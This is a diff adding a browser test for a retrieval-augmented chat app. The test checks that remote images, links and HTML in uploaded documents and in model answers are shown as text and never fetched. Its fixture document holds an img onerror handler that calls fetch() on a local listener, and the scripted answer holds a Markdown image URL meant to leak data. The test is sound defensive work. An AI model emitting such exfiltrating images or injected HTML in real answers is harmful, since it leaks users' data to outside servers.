@@ -1,0 +1,94 @@
+"""No remote resources from documents or answers, in a real browser (Debian chromium + playwright).
+
+A document holds a Markdown image, an <img> tag, a link and a bare URL, all pointing at a local
+listener; the model (scripted here: the real ones cannot be made to write a given image) answers
+with an exfiltrating image. The page must show the passage and the answer as text, and the
+listener must see no request at all.
+"""
+
+from __future__ import annotations
+
+import http.server
+import threading
+import time
+
+import pytest
+
+import docgen
+from conftest import free_port
+from fakes import scripted_llm
+from rag.settings import Settings
+from test_browser import CHROMIUM_ARGS, browser, chromium  # noqa: F401  (fixtures)
+
+pytestmark = pytest.mark.slow
+
+
+@pytest.fixture
+def listener():
+    seen: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def log_message(self, *args):
+            pass
+
+        def do_GET(self):
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("content-type", "image/gif")
+            self.end_headers()
+            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{httpd.server_address[1]}", seen
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_remote_images_and_links_are_text_and_never_fetched(browser, listener, tmp_path, monkeypatch):  # noqa: F811
+    import rag.llm
+    from rag.app.web import build_app
+
+    base, seen = listener
+    doc = docgen.make_text(
+        tmp_path / "upload" / "beacon.md",
+        "# Beacon\n\nThe beacon on Skarv island is lit at dusk every evening. "
+        f"![map]({base}/doc-image?data=secret) <img src={base}/doc-img-tag> "
+        f'<img src="x" onerror="fetch(\'{base}/onerror\')"> [the chart]({base}/doc-link) {base}/bare\n',
+    )
+    answer = f"The beacon is lit at dusk [1]. ![x]({base}/answer-leak?q=history) <img src={base}/answer-tag>"
+    monkeypatch.setattr(rag.llm, "make_llm", lambda settings: scripted_llm(answer))
+
+    demo = build_app(Settings(data_dir=tmp_path / "data", collection="remote", public=True, temperature=0.0))
+    port = free_port()
+    demo.queue()
+    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
+    context = browser.new_context(viewport={"width": 1400, "height": 900})
+    try:
+        page = context.new_page()
+        page.set_default_timeout(60_000)
+        page.goto(f"http://127.0.0.1:{port}/", wait_until="domcontentloaded")
+        page.locator("#upload input[type=file]").set_input_files(str(doc))
+        page.locator("#upload-status").filter(has_text="added").wait_for(timeout=180_000)
+
+        page.locator("#question textarea").fill("When is the beacon on Skarv island lit?")
+        page.locator("#ask").click()
+        sources = page.locator("#sources")
+        sources.filter(has_text="beacon.md").wait_for(timeout=120_000)
+        page.locator("#chat").filter(has_text="lit at dusk").wait_for(timeout=60_000)
+        time.sleep(2)  # give any image request time to arrive
+
+        shown = sources.inner_text()
+        chat = page.locator("#chat").inner_text()
+        print(f"\nsources as shown: {shown!r}\nchat as shown: {chat!r}\nlistener saw: {seen}")
+        assert f"{base}/doc-image?data=secret" in shown and "doc-link" in shown  # shown as text
+        assert "answer-leak" in chat
+        for area in ("#sources", "#chat"):
+            assert page.locator(f"{area} img[src*='127.0.0.1']").count() == 0
+            assert page.locator(f"{area} a[href*='127.0.0.1']").count() == 0
+        assert seen == [], f"the browser fetched {seen}"
+    finally:
+        context.close()
+        demo.close()
